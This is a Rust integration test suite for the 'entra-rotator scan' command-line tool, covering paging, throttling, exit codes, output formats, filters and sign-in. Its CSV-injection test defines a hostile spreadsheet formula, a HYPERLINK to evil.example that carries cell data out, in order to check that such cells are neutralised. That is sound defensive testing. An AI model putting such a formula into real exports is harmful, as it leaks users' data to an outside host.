//! `entra-rotator scan` end to end: the real binary and the production Graph client against
//! the Graph stand-in, over sockets. Paging, throttling mid-listing, exit codes, the three
//! output formats, certificates, and the ways to narrow the listing.

use chrono::{Duration as ChronoDuration, Utc};
use entra_rotator_standins::faults::Fault;
use entra_rotator_standins::graph::{ROUTE_LIST_APPLICATIONS, ROUTE_LIST_OWNED_APPLICATIONS};
use entra_rotator_standins::scenario::Scenario;
use entra_rotator_standins::tenant::StandinApp;
use serde_json::Value;
use std::collections::HashMap;
use std::process::Output;
use std::time::Duration;

async fn scan(scenario: &Scenario, extra: &[&str]) -> Output {
    let config = scenario.config_path.to_str().unwrap();
    let mut args = vec!["scan", "--config", config];
    args.extend_from_slice(extra);
    tokio::process::Command::new(env!("CARGO_BIN_EXE_entra-rotator"))
        .args(&args)
        .env_remove("RUST_LOG")
        .env_remove("AZURE_TENANT_ID")
        .env_remove("AZURE_CLIENT_ID")
        .output()
        .await
        .unwrap()
}

fn stdout(output: &Output) -> String {
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn all(output: &Output) -> String {
    format!(
        "{}{}",
        stdout(output),
        String::from_utf8_lossy(&output.stderr)
    )
}

fn json_rows(output: &Output) -> Vec<Value> {
    let value: Value =
        serde_json::from_str(&stdout(output)).unwrap_or_else(|e| panic!("{e}: {}", all(output)));
    value.as_array().expect("a JSON array").clone()
}

/// Registers an application with one password credential ending `days` from now.
fn app_with_password(scenario: &Scenario, name: &str, days: i64) -> StandinApp {
    let app = scenario.tenant.register_app(name);
    let now = Utc::now();
    scenario
        .tenant
        .add_replicated_password(
            app.object_id,
            Some("mail".into()),
            now - ChronoDuration::days(1),
            now + ChronoDuration::days(days),
        )
        .unwrap();
    app
}

fn app_ids(rows: &[Value]) -> Vec<String> {
    let mut ids: Vec<String> = rows
        .iter()
        .map(|r| r["appId"].as_str().unwrap().to_string())
        .collect();
    ids.sort();
    ids
}

fn tenant_app_ids(scenario: &Scenario) -> Vec<String> {
    let mut ids: Vec<String> = scenario
        .tenant
        .apps()
        .iter()
        .map(|a| a.app_id.to_string())
        .collect();
    ids.sort();
    ids
}

#[tokio::test]
async fn follows_every_page_and_lists_every_app_once() {
    let scenario = Scenario::start().await.unwrap();
    for index in 0..23 {
        app_with_password(&scenario, &format!("app-{index:02}"), 200);
    }
    // 23 + the scenario's two applications, 10 per page: 3 pages.
    let output = scan(&scenario, &["--page-size", "10", "--output", "json"]).await;
    assert!(output.status.success(), "{}", all(&output));
    let rows = json_rows(&output);
    assert_eq!(
        app_ids(&rows),
        tenant_app_ids(&scenario),
        "each application exactly once"
    );
    assert_eq!(
        scenario.graph.faults().count(ROUTE_LIST_APPLICATIONS),
        3,
        "one request per page"
    );
    assert!(
        all(&output).contains("scanned 25 applications"),
        "{}",
        all(&output)
    );
}

#[tokio::test]
async fn waits_out_throttling_mid_listing_and_completes() {
    let scenario = Scenario::start().await.unwrap();
    for index in 0..12 {
        app_with_password(&scenario, &format!("app-{index:02}"), 200);
    }
    let faults = scenario.graph.faults();
    faults.push(ROUTE_LIST_APPLICATIONS, Fault::delay(Duration::ZERO));
    faults.push(ROUTE_LIST_APPLICATIONS, Fault::throttle(1));
    let output = scan(&scenario, &["--page-size", "5", "--output", "json"]).await;
    assert!(output.status.success(), "{}", all(&output));
    assert_eq!(app_ids(&json_rows(&output)), tenant_app_ids(&scenario));
    assert_eq!(
        faults.count(ROUTE_LIST_APPLICATIONS),
        3 + 1,
        "three pages and one throttled retry"
    );
}

#[tokio::test]
async fn a_lasting_graph_failure_says_the_output_is_incomplete() {
    let scenario = Scenario::start().await.unwrap();
    scenario
        .graph
        .faults()
        .push(ROUTE_LIST_APPLICATIONS, Fault::status(403));
    let output = scan(&scenario, &[]).await;
    assert_eq!(output.status.code(), Some(2), "{}", all(&output));
    assert!(
        all(&output).contains("Application.Read.All"),
        "{}",
        all(&output)
    );

    // A throttle longer than the client waits out leaves the scan unfinished.
    scenario
        .graph
        .faults()
        .push(ROUTE_LIST_APPLICATIONS, Fault::throttle(3600));
    let output = scan(&scenario, &[]).await;
    assert_eq!(output.status.code(), Some(3), "{}", all(&output));
    assert!(all(&output).contains("incomplete"), "{}", all(&output));
}

#[tokio::test]
async fn fail_within_sets_the_exit_code() {
    let scenario = Scenario::start().await.unwrap();
    // The scenario's hand-made secret ends in 20 days, the rotator's own in 365.
    let quiet = scan(&scenario, &["--fail-within", "10d"]).await;
    assert_eq!(quiet.status.code(), Some(0), "{}", all(&quiet));
    let due = scan(&scenario, &["--fail-within", "30d"]).await;
    assert_eq!(due.status.code(), Some(1), "{}", all(&due));
    assert!(all(&due).contains("1 expiring within 30d"), "{}", all(&due));

    app_with_password(&scenario, "long-gone", -3);
    let expired = scan(&scenario, &["--fail-within", "10d", "--output", "json"]).await;
    assert_eq!(
        expired.status.code(),
        Some(1),
        "an expired credential counts: {}",
        all(&expired)
    );
    let gone = json_rows(&expired)
        .into_iter()
        .find(|r| r["appDisplayName"] == "long-gone")
        .unwrap();
    assert_eq!(gone["status"], "expired");
    assert_eq!(gone["daysLeft"], -3);
    let ignoring = scan(&scenario, &["--fail-within", "10d", "--ignore-expired"]).await;
    assert_eq!(ignoring.status.code(), Some(0), "{}", all(&ignoring));
    assert!(!stdout(&ignoring).contains("long-gone"));

    let bad = scan(&scenario, &["--fail-within", "soon"]).await;
    assert_eq!(bad.status.code(), Some(2));
    assert!(all(&bad).contains("write it like 180d"), "{}", all(&bad));
}

/// Regression: `--fail-within 300000y` panicked (the horizon overflowed the calendar).
#[tokio::test]
async fn fail_within_past_the_calendar_is_refused_not_a_panic() {
    let scenario = Scenario::start().await.unwrap();
    let widest = scan(&scenario, &["--fail-within", "36500d"]).await;
    assert_eq!(widest.status.code(), Some(1), "every credential ends within 100 years: {}", all(&widest));
    for text in ["36501d", "300000y"] {
        let refused = scan(&scenario, &["--fail-within", text]).await;
        assert_eq!(refused.status.code(), Some(2), "{text}: {}", all(&refused));
        assert!(all(&refused).contains("--fail-within: ") && all(&refused).contains("is outside 0s..36500d"), "{text}: {}", all(&refused));
        assert!(!all(&refused).contains("panicked"), "{}", all(&refused));
    }
}

#[tokio::test]
async fn refused_sign_in_is_bad_input() {
    let scenario = Scenario::start().await.unwrap();
    let secret_file = scenario
        .config_path
        .parent()
        .unwrap()
        .join("rotator-secret");
    std::fs::write(&secret_file, "not-the-secret").unwrap();
    let output = scan(&scenario, &[]).await;
    assert_eq!(output.status.code(), Some(2), "{}", all(&output));
    assert!(
        all(&output).contains("Check the sign-in"),
        "{}",
        all(&output)
    );
    assert!(!all(&output).contains("not-the-secret"));
}

#[tokio::test]
async fn json_and_csv_carry_the_same_rows_and_certificates_are_listed() {
    let scenario = Scenario::start().await.unwrap();
    let app = app_with_password(&scenario, "Contoso, \"Mail\" relay", 45);
    let now = Utc::now();
    let cert_key = scenario.graph.add_certificate(
        app.object_id,
        "CN=contoso-mail",
        now,
        now + ChronoDuration::days(9),
    );

    let json = scan(&scenario, &["--output", "json"]).await;
    assert!(json.status.success(), "{}", all(&json));
    let rows = json_rows(&json);
    let certificate = rows
        .iter()
        .find(|r| r["credentialType"] == "certificate")
        .expect("certificate row");
    assert_eq!(certificate["keyId"], cert_key.to_string());
    assert_eq!(certificate["appId"], app.app_id.to_string());
    assert_eq!(certificate["credentialName"], "CN=contoso-mail");
    assert_eq!(certificate["daysLeft"], 8, "whole days left, rounded down");
    assert_eq!(certificate["status"], "expiring");
    assert!(certificate["endDateTime"].as_str().unwrap().ends_with('Z'));
    let password = rows
        .iter()
        .find(|r| r["appId"] == app.app_id.to_string() && r["credentialType"] == "password")
        .unwrap();
    assert_eq!(password["status"], "ok");
    assert_eq!(password["appDisplayName"], "Contoso, \"Mail\" relay");

    let csv = scan(&scenario, &["--output", "csv"]).await;
    assert!(csv.status.success(), "{}", all(&csv));
    let records = parse_csv(&stdout(&csv));
    let header = &records[0];
    assert_eq!(
        header.join(","),
        "appDisplayName,appId,objectId,credentialType,keyId,credentialName,startDateTime,endDateTime,daysLeft,status"
    );
    let by_key: HashMap<&str, HashMap<&str, &str>> = records[1..]
        .iter()
        .map(|record| {
            let fields: HashMap<&str, &str> = header
                .iter()
                .map(String::as_str)
                .zip(record.iter().map(String::as_str))
                .collect();
            (fields["keyId"], fields)
        })
        .collect();
    assert_eq!(
        by_key.len(),
        rows.len(),
        "CSV and JSON list the same credentials"
    );
    let cert_csv = &by_key[cert_key.to_string().as_str()];
    assert_eq!(cert_csv["appDisplayName"], "Contoso, \"Mail\" relay");
    assert_eq!(cert_csv["credentialType"], "certificate");
    assert_eq!(cert_csv["daysLeft"], "8");
    assert_eq!(
        cert_csv["endDateTime"],
        certificate["endDateTime"].as_str().unwrap()
    );
}

#[tokio::test]
async fn table_has_fixed_columns() {
    let scenario = Scenario::start().await.unwrap();
    app_with_password(
        &scenario,
        "an application whose name is far too long for its column",
        100,
    );
    let output = scan(&scenario, &[]).await;
    assert!(output.status.success(), "{}", all(&output));
    let text = stdout(&output);
    let lines: Vec<&str> = text.lines().collect();
    assert!(
        lines[0].starts_with("STATUS     DAYS    EXPIRES (UTC)"),
        "{text}"
    );
    let name_column = lines[0].find("NAME").unwrap();
    for line in &lines[1..] {
        let before_name: String = line.chars().skip(name_column - 2).take(2).collect();
        assert_eq!(
            before_name, "  ",
            "every row's NAME starts in the same column: {line}"
        );
    }
    assert!(text.contains("an application whose name is …"), "{text}");
    assert!(
        !String::from_utf8_lossy(&output.stderr).contains("scanned 3 apps…"),
        "no progress when stderr is not a terminal"
    );
}

#[tokio::test]
async fn filter_contains_and_owned_narrow_the_listing() {
    let scenario = Scenario::start().await.unwrap();
    let mail = app_with_password(&scenario, "Mail-relay-prod", 100);
    let other = app_with_password(&scenario, "billing", 100);
    let quoted = app_with_password(&scenario, "O'Brien mail", 100);

    let prefix = scan(&scenario, &["--filter", "mail-", "--output", "json"]).await;
    assert!(prefix.status.success(), "{}", all(&prefix));
    assert_eq!(
        app_ids(&json_rows(&prefix)),
        vec![mail.app_id.to_string()],
        "Graph filtered by prefix, case-insensitively"
    );

    let apostrophe = scan(&scenario, &["--filter", "O'Brien", "--output", "json"]).await;
    assert!(apostrophe.status.success(), "{}", all(&apostrophe));
    assert_eq!(
        app_ids(&json_rows(&apostrophe)),
        vec![quoted.app_id.to_string()]
    );

    let contains = scan(&scenario, &["--contains", "MAIL", "--output", "json"]).await;
    let mut expected = vec![
        mail.app_id.to_string(),
        quoted.app_id.to_string(),
        scenario.target.app_id.to_string(),
    ];
    expected.sort();
    assert_eq!(app_ids(&json_rows(&contains)), expected);

    let rotator = scenario
        .tenant
        .apps()
        .into_iter()
        .find(|a| a.display_name == "entra-rotator")
        .unwrap();
    scenario.graph.add_owner(mail.object_id, rotator.app_id);
    scenario.graph.add_owner(other.object_id, rotator.app_id);
    let owned = scan(&scenario, &["--owned", "--output", "json"]).await;
    assert!(owned.status.success(), "{}", all(&owned));
    // The scenario's rotator owns its target too, as the real set-up requires.
    let mut expected = vec![mail.app_id.to_string(), other.app_id.to_string(), scenario.target.app_id.to_string()];
    expected.sort();
    assert_eq!(app_ids(&json_rows(&owned)), expected);
    assert_eq!(
        scenario.graph.faults().count(ROUTE_LIST_OWNED_APPLICATIONS),
        1
    );
}

#[tokio::test]
async fn signs_in_from_flags_without_a_configuration_file() {
    let scenario = Scenario::start().await.unwrap();
    let dir = scenario.config_path.parent().unwrap();
    let rotator = scenario
        .tenant
        .apps()
        .into_iter()
        .find(|a| a.display_name == "entra-rotator")
        .unwrap();
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_entra-rotator"))
        .args([
            "scan",
            "--output",
            "json",
            "--tenant-id",
            &scenario.tenant.tenant_id.to_string(),
        ])
        .args([
            "--client-id",
            &rotator.app_id.to_string(),
            "--client-secret-env",
            "SCAN_TEST_SECRET",
        ])
        .args(["--graph-url", scenario.graph.graph_url().as_str()])
        .args(["--authority-host", scenario.graph.authority_host().as_str()])
        .args([
            "--extra-root-certificate",
            dir.join("stand-in-ca.pem").to_str().unwrap(),
        ])
        .env("SCAN_TEST_SECRET", &scenario.rotator_secret)
        .env_remove("RUST_LOG")
        .output()
        .await
        .unwrap();
    assert!(output.status.success(), "{}", all(&output));
    assert_eq!(app_ids(&json_rows(&output)), tenant_app_ids(&scenario));
    assert!(!all(&output).contains(&scenario.rotator_secret));
}

/// CSV injection: a display name or credential name that a spreadsheet would run as a
/// formula is written as text (leading `'`); JSON and the numbers are unchanged.
#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
    let scenario = Scenario::start().await.unwrap();
    let hostile = "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")";
    let app = scenario.tenant.register_app(hostile);
    let now = Utc::now();
    scenario
        .tenant
        .add_replicated_password(app.object_id, Some("@SUM(1+1)".into()), now - ChronoDuration::days(5), now - ChronoDuration::days(2))
        .unwrap();
    let csv = scan(&scenario, &["--output", "csv"]).await;
    assert!(csv.status.success(), "{}", all(&csv));
    let records = parse_csv(&stdout(&csv));
    let row = records.iter().find(|r| r[1] == app.app_id.to_string()).expect("the hostile application's row");
    assert_eq!(row[0], format!("'{hostile}"));
    assert_eq!(row[5], "'@SUM(1+1)");
    assert_eq!(row[8], "-2", "a negative number of days stays a number");
    for record in &records[1..] {
        for cell in record {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "a formula cell: {cell:?}");
        }
    }
    let json = scan(&scenario, &["--output", "json"]).await;
    let rows = json_rows(&json);
    assert!(rows.iter().any(|r| r["appDisplayName"] == hostile), "JSON carries the name as Graph has it");
}

/// RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut field) = (Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    records
}
